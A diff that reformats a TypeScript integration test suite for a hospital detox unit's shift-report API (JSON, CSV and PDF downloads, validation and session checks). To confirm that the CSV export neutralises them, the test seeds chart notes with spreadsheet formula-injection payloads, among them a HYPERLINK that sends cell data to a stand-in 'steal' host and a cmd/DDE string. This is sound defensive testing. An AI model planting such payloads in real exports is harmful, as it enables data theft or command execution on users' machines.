@@ -13,7 +13,14 @@ const api = useApiServer();
 
 interface ReportDto {
   unit: { id: number; name: string; timeZone: string };
-  window: { shiftStart: string; shiftEnd: string; label: string; inProgress: boolean; previousShiftStart: string; nextShiftStart: string | null };
+  window: {
+    shiftStart: string;
+    shiftEnd: string;
+    label: string;
+    inProgress: boolean;
+    previousShiftStart: string;
+    nextShiftStart: string | null;
+  };
   generatedBy: { name: string };
   totals: { census: number };
   patients: {
@@ -35,7 +42,14 @@ interface ReportDto {
       awaitingCountersign: { id: number }[];
     };
   }[];
-  ordersAwaitingCountersign: { id: number; bed: string; patientName: string; title: string; orderedBy: string; enteredBy: string }[];
+  ordersAwaitingCountersign: {
+    id: number;
+    bed: string;
+    patientName: string;
+    title: string;
+    orderedBy: string;
+    enteredBy: string;
+  }[];
 }
 
 interface Download {
@@ -44,7 +58,13 @@ interface Download {
   disposition: string | null;
   body: Buffer;
   /** tRPC's error shape: one error shape leaves the server (session resolver and downloads, issue 14). */
-  json: () => { error: { code: number; message: string; data: { code: string; httpStatus: number; issues: { path: string; message: string }[] } } };
+  json: () => {
+    error: {
+      code: number;
+      message: string;
+      data: { code: string; httpStatus: number; issues: { path: string; message: string }[] };
+    };
+  };
 }
 
 /** A plain GET as a browser link would make it, with the client's session cookie if it has one. */
@@ -72,16 +92,60 @@ function pdfToText(pdf: Buffer): string {
   }
 }
 
-const COLUMNS = ['unit', 'shift_start', 'shift_end', 'bed', 'patient', 'mrn', 'illness_severity', 'event', 'time', 'item', 'value', 'unit_of_measure', 'band_or_status', 'route', 'prn', 'detail', 'record_status', 'recorded_by'];
+const COLUMNS = [
+  'unit',
+  'shift_start',
+  'shift_end',
+  'bed',
+  'patient',
+  'mrn',
+  'illness_severity',
+  'event',
+  'time',
+  'item',
+  'value',
+  'unit_of_measure',
+  'band_or_status',
+  'route',
+  'prn',
+  'detail',
+  'record_status',
+  'recorded_by',
+];
 const FORMULA_NOTE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click me")';
 const FORMULA_INDICATION = '@SUM(1+1) nausea';
 const FORMULA_HOLD = '+cmd|" /C calc"!A0';
 
-const orderEventCount = (p: ReportDto['patients'][number]) => p.orders.active.length + p.orders.dueNext.length + p.orders.prnUse.length + p.orders.awaitingCountersign.length;
+const orderEventCount = (p: ReportDto['patients'][number]) =>
+  p.orders.active.length + p.orders.dueNext.length + p.orders.prnUse.length + p.orders.awaitingCountersign.length;
 const eventCount = (r: ReportDto) =>
-  r.patients.reduce((n, p) => n + p.scores.length + p.vitalsOutOfRange.length + p.administrations.length + (p.nextAssessment ? 1 : 0) + p.overdue.length + p.shiftAlerts.length + orderEventCount(p), 0);
-const EVENTS = ['score', 'vital-sign', 'administration', 'next-assessment', 'overdue-assessment', 'open-alert', 'acknowledged-alert', 'order', 'dose-due-next-shift', 'prn-use', 'order-awaiting-countersignature'];
-const auditCount = (entity: string) => selectAll<{ n: number }>(api.sqlitePath, 'select count(*) as n from audit_event where entity = ?', entity)[0]?.n ?? 0;
+  r.patients.reduce(
+    (n, p) =>
+      n +
+      p.scores.length +
+      p.vitalsOutOfRange.length +
+      p.administrations.length +
+      (p.nextAssessment ? 1 : 0) +
+      p.overdue.length +
+      p.shiftAlerts.length +
+      orderEventCount(p),
+    0,
+  );
+const EVENTS = [
+  'score',
+  'vital-sign',
+  'administration',
+  'next-assessment',
+  'overdue-assessment',
+  'open-alert',
+  'acknowledged-alert',
+  'order',
+  'dose-due-next-shift',
+  'prn-use',
+  'order-awaiting-countersignature',
+];
+const auditCount = (entity: string) =>
+  selectAll<{ n: number }>(api.sqlitePath, 'select count(*) as n from audit_event where entity = ?', entity)[0]?.n ?? 0;
 
 describe('shift report over HTTP', () => {
   let current: ReportDto;
@@ -91,20 +155,66 @@ describe('shift report over HTTP', () => {
   beforeAll(async () => {
     current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
     // Chart inside the current shift, text a spreadsheet would run as a formula included.
-    chartedAt = new Date(Math.max(Date.parse(current.window.shiftStart) + 60_000, Date.now() - 10 * 60_000)).toISOString();
-    const admissionId = (dataOf(await api.nurse.mutate('admissions.admit', admitBody(api.unitId, '4', 'API-REP-1', { admittedAt: chartedAt }))) as { admissionId: number }).admissionId;
+    chartedAt = new Date(
+      Math.max(Date.parse(current.window.shiftStart) + 60_000, Date.now() - 10 * 60_000),
+    ).toISOString();
+    const admissionId = (
+      dataOf(
+        await api.nurse.mutate('admissions.admit', admitBody(api.unitId, '4', 'API-REP-1', { admittedAt: chartedAt })),
+      ) as { admissionId: number }
+    ).admissionId;
     await standingOrders(api, admissionId);
-    dataOf(await api.nurse.mutate('assessments.record', cows18(admissionId, { takenAt: chartedAt, note: FORMULA_NOTE })));
-    dataOf(await api.nurse.mutate('medications.record', doseBody(admissionId, { givenAt: chartedAt, indication: FORMULA_INDICATION })));
-    dataOf(await api.nurse.mutate('medications.record', doseBody(admissionId, { drug: 'ibuprofen', doseMg: 400, givenAt: chartedAt, status: 'held', holdReason: FORMULA_HOLD })));
+    dataOf(
+      await api.nurse.mutate('assessments.record', cows18(admissionId, { takenAt: chartedAt, note: FORMULA_NOTE })),
+    );
+    dataOf(
+      await api.nurse.mutate(
+        'medications.record',
+        doseBody(admissionId, { givenAt: chartedAt, indication: FORMULA_INDICATION }),
+      ),
+    );
+    dataOf(
+      await api.nurse.mutate(
+        'medications.record',
+        doseBody(admissionId, {
+          drug: 'ibuprofen',
+          doseMg: 400,
+          givenAt: chartedAt,
+          status: 'held',
+          holdReason: FORMULA_HOLD,
+        }),
+      ),
+    );
     // A telephone order the physician has not countersigned yet, and a scheduled one every 6 h.
-    const physicianId = selectAll<{ id: number }>(api.sqlitePath, "select id from app_user where name = 'Dr. Ben Carter'")[0]?.id;
+    const physicianId = selectAll<{ id: number }>(
+      api.sqlitePath,
+      "select id from app_user where name = 'Dr. Ben Carter'",
+    )[0]?.id;
     verbalOrderId = (
       dataOf(
-        await api.nurse.mutate('orders.verbal', { admissionId, orderedBy: physicianId, readBack: true, channel: 'telephone', drug: 'trazodone', doseMg: 50, route: 'PO', kind: 'prn', indication: 'Insomnia' }),
+        await api.nurse.mutate('orders.verbal', {
+          admissionId,
+          orderedBy: physicianId,
+          readBack: true,
+          channel: 'telephone',
+          drug: 'trazodone',
+          doseMg: 50,
+          route: 'PO',
+          kind: 'prn',
+          indication: 'Insomnia',
+        }),
       ) as { id: number }
     ).id;
-    dataOf(await api.physician.mutate('orders.create', { admissionId, drug: 'methocarbamol', doseMg: 750, route: 'PO', kind: 'scheduled', everyHours: 6 }));
+    dataOf(
+      await api.physician.mutate('orders.create', {
+        admissionId,
+        drug: 'methocarbamol',
+        doseMg: 750,
+        route: 'PO',
+        kind: 'scheduled',
+        everyHours: 6,
+      }),
+    );
     current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
   });
 
@@ -123,18 +233,39 @@ describe('shift report over HTTP', () => {
   });
 
   it('reports.shift takes an earlier shift by its start, and refuses a time that is not a start, naming the nearest starts', async () => {
-    const previous = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId, shiftStart: current.window.previousShiftStart }));
+    const previous = dataOf(
+      await api.nurse.query<ReportDto>('reports.shift', {
+        unitId: api.unitId,
+        shiftStart: current.window.previousShiftStart,
+      }),
+    );
     expect(previous.window.shiftEnd).toBe(current.window.shiftStart);
     expect(previous.window.inProgress).toBe(false);
     const off = new Date(Date.parse(current.window.previousShiftStart) + 30 * 60_000).toISOString();
     const res = await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: off });
-    expectError(res, { status: 400, code: 'BAD_REQUEST', message: /is not the start of a shift on Detox North .* the nearest shift starts are \S+ and \S+$/, issues: [{ path: 'shiftStart' }] });
-    expectError(await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: 'yesterday' }), { status: 400, code: 'BAD_REQUEST', issues: [{ path: 'shiftStart' }] });
-    expectError(await api.nurse.query('reports.shift', { unitId: 987_654 }), { status: 404, code: 'NOT_FOUND', message: 'Unit 987654 does not exist' });
+    expectError(res, {
+      status: 400,
+      code: 'BAD_REQUEST',
+      message: /is not the start of a shift on Detox North .* the nearest shift starts are \S+ and \S+$/,
+      issues: [{ path: 'shiftStart' }],
+    });
+    expectError(await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: 'yesterday' }), {
+      status: 400,
+      code: 'BAD_REQUEST',
+      issues: [{ path: 'shiftStart' }],
+    });
+    expectError(await api.nurse.query('reports.shift', { unitId: 987_654 }), {
+      status: 404,
+      code: 'NOT_FOUND',
+      message: 'Unit 987654 does not exist',
+    });
   });
 
   it('reports.shift needs a session', async () => {
-    expectError(await api.anonymous.query('reports.shift', { unitId: api.unitId }), { status: 401, code: 'UNAUTHORIZED' });
+    expectError(await api.anonymous.query('reports.shift', { unitId: api.unitId }), {
+      status: 401,
+      code: 'UNAUTHORIZED',
+    });
   });
 
   it('GET /reports/shift.csv: a header and one row per event, formulas neutralised, audited', async () => {
@@ -152,39 +283,90 @@ describe('shift report over HTTP', () => {
     // Every charted event of the new patient is there, with the formulas turned into text.
     const mine = records.filter((r) => r.patient === 'Test Patient API-REP-1');
     const score = mine.find((r) => r.event === 'score');
-    expect(score).toMatchObject({ bed: '4', item: 'COWS', value: '18', band_or_status: 'Moderate', detail: `'${FORMULA_NOTE}`, record_status: 'active', recorded_by: 'Ana Reyes, RN' });
+    expect(score).toMatchObject({
+      bed: '4',
+      item: 'COWS',
+      value: '18',
+      band_or_status: 'Moderate',
+      detail: `'${FORMULA_NOTE}`,
+      record_status: 'active',
+      recorded_by: 'Ana Reyes, RN',
+    });
     const given = mine.find((r) => r.event === 'administration' && r.band_or_status === 'given');
-    expect(given).toMatchObject({ item: 'Ondansetron', value: '4', unit_of_measure: 'mg', route: 'PO', prn: 'yes', detail: `'${FORMULA_INDICATION}; PRN effect: not reassessed, before 18` });
+    expect(given).toMatchObject({
+      item: 'Ondansetron',
+      value: '4',
+      unit_of_measure: 'mg',
+      route: 'PO',
+      prn: 'yes',
+      detail: `'${FORMULA_INDICATION}; PRN effect: not reassessed, before 18`,
+    });
     const held = mine.find((r) => r.event === 'administration' && r.band_or_status === 'held');
     expect(held).toMatchObject({ item: 'Ibuprofen', value: '400', detail: `'${FORMULA_HOLD}` });
     // COWS 18 (moderate): the next one an hour later, not the routine 4 h, and why in words (issue 15, item 2).
     expect(mine.filter((r) => r.event === 'next-assessment')).toEqual([
-      expect.objectContaining({ item: 'Next COWS', band_or_status: 'due', detail: 'every hour while COWS is moderate or worse (18, moderate)' }),
+      expect.objectContaining({
+        item: 'Next COWS',
+        band_or_status: 'due',
+        detail: 'every hour while COWS is moderate or worse (18, moderate)',
+      }),
     ]);
     // The orders: each active one, the doses due next shift, PRN use against each, the telephone order to countersign.
     const patient = report.patients.find((p) => p.patient.name === 'Test Patient API-REP-1');
-    expect(mine.filter((r) => r.event === 'order').map((r) => r.item)).toEqual(patient?.orders.active.map((o) => o.drugName));
+    expect(mine.filter((r) => r.event === 'order').map((r) => r.item)).toEqual(
+      patient?.orders.active.map((o) => o.drugName),
+    );
     expect(mine.filter((r) => r.event === 'order').length).toBe(9);
-    expect(mine.find((r) => r.event === 'order' && r.item === 'Methocarbamol')).toMatchObject({ value: '750', unit_of_measure: 'mg', band_or_status: 'scheduled', route: 'PO', prn: 'no', record_status: 'active', recorded_by: 'Dr. Ben Carter' });
-    expect(mine.find((r) => r.event === 'order' && r.item === 'Trazodone')).toMatchObject({ band_or_status: 'prn, awaiting countersignature', recorded_by: 'Dr. Ben Carter' });
+    expect(mine.find((r) => r.event === 'order' && r.item === 'Methocarbamol')).toMatchObject({
+      value: '750',
+      unit_of_measure: 'mg',
+      band_or_status: 'scheduled',
+      route: 'PO',
+      prn: 'no',
+      record_status: 'active',
+      recorded_by: 'Dr. Ben Carter',
+    });
+    expect(mine.find((r) => r.event === 'order' && r.item === 'Trazodone')).toMatchObject({
+      band_or_status: 'prn, awaiting countersignature',
+      recorded_by: 'Dr. Ben Carter',
+    });
     const due = mine.filter((r) => r.event === 'dose-due-next-shift');
     expect(due.length).toBeGreaterThan(0);
     expect(due.length).toBe(patient?.orders.dueNext.length);
     for (const r of due) expect(r).toMatchObject({ item: 'Methocarbamol', value: '750', band_or_status: 'due' });
-    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ondansetron')).toMatchObject({ value: '4', band_or_status: '1 given, 0 held, 0 refused', prn: 'yes' });
-    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ibuprofen')).toMatchObject({ value: '0', band_or_status: '0 given, 1 held, 0 refused' });
-    expect(mine.find((r) => r.event === 'order-awaiting-countersignature')).toMatchObject({ item: 'Trazodone', band_or_status: 'awaiting countersignature', recorded_by: 'Ana Reyes, RN' });
+    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ondansetron')).toMatchObject({
+      value: '4',
+      band_or_status: '1 given, 0 held, 0 refused',
+      prn: 'yes',
+    });
+    expect(mine.find((r) => r.event === 'prn-use' && r.item === 'Ibuprofen')).toMatchObject({
+      value: '0',
+      band_or_status: '0 given, 1 held, 0 refused',
+    });
+    expect(mine.find((r) => r.event === 'order-awaiting-countersignature')).toMatchObject({
+      item: 'Trazodone',
+      band_or_status: 'awaiting countersignature',
+      recorded_by: 'Ana Reyes, RN',
+    });
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     expect(auditCount('shift-report.csv')).toBe(before + 1);
   });
 
   it('GET /reports/shift.pdf: every patient and every dose of the shift, unit, shift, printer and page numbers on each page', async () => {
     const before = auditCount('shift-report.pdf');
-    const res = await download(api.physician, `/reports/shift.pdf?unitId=${api.unitId}&shiftStart=${encodeURIComponent(current.window.previousShiftStart)}`);
+    const res = await download(
+      api.physician,
+      `/reports/shift.pdf?unitId=${api.unitId}&shiftStart=${encodeURIComponent(current.window.previousShiftStart)}`,
+    );
     expect(res.status).toBe(200);
     expect(res.type).toBe('application/pdf');
     expect(res.body.subarray(0, 5).toString()).toBe('%PDF-');
-    const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId, shiftStart: current.window.previousShiftStart }));
+    const report = dataOf(
+      await api.physician.query<ReportDto>('reports.shift', {
+        unitId: api.unitId,
+        shiftStart: current.window.previousShiftStart,
+      }),
+    );
     const text = pdfToText(res.body);
     const pages = text.split('\f').filter((p) => p.trim().length > 0);
     expect(pages.length).toBeGreaterThan(1);
@@ -201,7 +383,7 @@ describe('shift report over HTTP', () => {
     expect(auditCount('shift-report.pdf')).toBe(before + 1);
   });
 
-  it('GET /reports/shift.pdf: the orders of each patient and the unit\'s orders waiting for a countersignature', async () => {
+  it("GET /reports/shift.pdf: the orders of each patient and the unit's orders waiting for a countersignature", async () => {
     const res = await download(api.physician, `/reports/shift.pdf?unitId=${api.unitId}`);
     expect(res.status).toBe(200);
     const text = pdfToText(res.body).replace(/\s+/g, ' ');
@@ -210,7 +392,9 @@ describe('shift report over HTTP', () => {
     expect(text).toContain('Due next shift');
     expect(text).toMatch(/PRN use this shift Ondansetron 4(–\d+)? mg PO PRN: 1 given \(4 mg\)/);
     expect(text).toContain('Orders waiting for a countersignature');
-    expect(text).toMatch(/Bed 4 Test Patient API-REP-1 Trazodone 50 mg PO PRN — for Insomnia[^(]* \(telephone order from Dr\. Ben Carter, entered by Ana Reyes, RN, AWAITING COUNTERSIGNATURE\)/);
+    expect(text).toMatch(
+      /Bed 4 Test Patient API-REP-1 Trazodone 50 mg PO PRN — for Insomnia[^(]* \(telephone order from Dr\. Ben Carter, entered by Ana Reyes, RN, AWAITING COUNTERSIGNATURE\)/,
+    );
     const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId }));
     expect(report.ordersAwaitingCountersign.map((o) => o.id)).toContain(verbalOrderId);
   });
@@ -243,28 +427,44 @@ describe('shift report over HTTP', () => {
       expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
     });
     // The nurse's only unit is Detox North (Detox South has its own sheet).
-    const occupied = selectAll<{ name: string }>(api.sqlitePath, 'select p.name from admission a join patient p on p.id = a.patient_id where a.discharged_at is null and a.unit_id = ?', api.unitId);
+    const occupied = selectAll<{ name: string }>(
+      api.sqlitePath,
+      'select p.name from admission a join patient p on p.id = a.patient_id where a.discharged_at is null and a.unit_id = ?',
+      api.unitId,
+    );
     expect(occupied.length).toBeGreaterThan(0);
     for (const { name } of occupied) expect(text).toContain(name);
     const recent = selectAll<{ drug: string; dose_mg: number }>(
       api.sqlitePath,
-      "select m.drug, m.dose_mg from medication_administration m join admission a on a.id = m.admission_id where a.discharged_at is null and m.given_at > ? and a.unit_id = ?",
+      'select m.drug, m.dose_mg from medication_administration m join admission a on a.id = m.admission_id where a.discharged_at is null and m.given_at > ? and a.unit_id = ?',
       new Date(Date.now() - 23 * 3_600_000).toISOString(),
       api.unitId,
     );
-    for (const m of recent) expect(text).toContain(`${m.drug[0]?.toUpperCase()}${m.drug.slice(1)} ${formatDoseMg(m.dose_mg)}`);
+    for (const m of recent)
+      expect(text).toContain(`${m.drug[0]?.toUpperCase()}${m.drug.slice(1)} ${formatDoseMg(m.dose_mg)}`);
     expect(text).toContain('Due next');
     expect(auditCount('downtime-snapshot')).toBe(before + 1);
   });
 
   it('answers 401 JSON without a session on every download', async () => {
-    for (const url of ['/reports/shift.csv', '/reports/shift.pdf', '/reports/downtime.pdf', '/exports/fhir?admissionId=1']) {
+    for (const url of [
+      '/reports/shift.csv',
+      '/reports/shift.pdf',
+      '/reports/downtime.pdf',
+      '/exports/fhir?admissionId=1',
+    ]) {
       const res = await download(null, url);
       expect(res.status, url).toBe(401);
       expect(res.type).toMatch(/^application\/json/);
-      expect(res.json().error).toMatchObject({ code: -32001, data: { code: 'UNAUTHORIZED', httpStatus: 401 }, message: 'You are not logged in, or your session has ended; log in again' });
+      expect(res.json().error).toMatchObject({
+        code: -32001,
+        data: { code: 'UNAUTHORIZED', httpStatus: 401 },
+        message: 'You are not logged in, or your session has ended; log in again',
+      });
     }
-    const forged = await fetch(`${api.server.url}/reports/shift.csv`, { headers: { cookie: `${SESSION_COOKIE}=not-a-session` } });
+    const forged = await fetch(`${api.server.url}/reports/shift.csv`, {
+      headers: { cookie: `${SESSION_COOKIE}=not-a-session` },
+    });
     expect(forged.status).toBe(401);
   });
 
@@ -272,8 +472,14 @@ describe('shift report over HTTP', () => {
     for (const file of ['shift.csv', 'shift.pdf']) {
       const bad = await download(api.nurse, `/reports/${file}?unitId=north`);
       expect(bad.status).toBe(400);
-      expect(bad.json().error).toMatchObject({ data: { code: 'BAD_REQUEST', issues: [{ path: 'unitId' }] }, message: 'unitId: unitId must be a whole number id, such as unitId=1' });
-      const off = await download(api.nurse, `/reports/${file}?unitId=${api.unitId}&shiftStart=${encodeURIComponent('2026-01-15T08:00:00-05:00')}`);
+      expect(bad.json().error).toMatchObject({
+        data: { code: 'BAD_REQUEST', issues: [{ path: 'unitId' }] },
+        message: 'unitId: unitId must be a whole number id, such as unitId=1',
+      });
+      const off = await download(
+        api.nurse,
+        `/reports/${file}?unitId=${api.unitId}&shiftStart=${encodeURIComponent('2026-01-15T08:00:00-05:00')}`,
+      );
       expect(off.status).toBe(400);
       expect(off.json().error.message).toBe(
         '2026-01-15T08:00:00-05:00 is not the start of a shift on Detox North (shifts start at 07:00 and 19:00, America/New_York time); the nearest shift starts are 2026-01-15T07:00:00-05:00 and 2026-01-15T19:00:00-05:00',
@@ -283,7 +489,10 @@ describe('shift report over HTTP', () => {
       expect(noOffset.json().error.data.issues[0]).toMatchObject({ path: 'shiftStart' });
       const unknown = await download(api.nurse, `/reports/${file}?unitId=987654`);
       expect(unknown.status).toBe(404);
-      expect(unknown.json().error).toMatchObject({ data: { code: 'NOT_FOUND' }, message: 'Unit 987654 does not exist' });
+      expect(unknown.json().error).toMatchObject({
+        data: { code: 'NOT_FOUND' },
+        message: 'Unit 987654 does not exist',
+      });
     }
     expect((await download(api.nurse, '/reports/downtime.pdf?unitId=0')).status).toBe(400);
     expect((await download(api.nurse, '/reports/downtime.pdf?unitId=987654')).status).toBe(404);
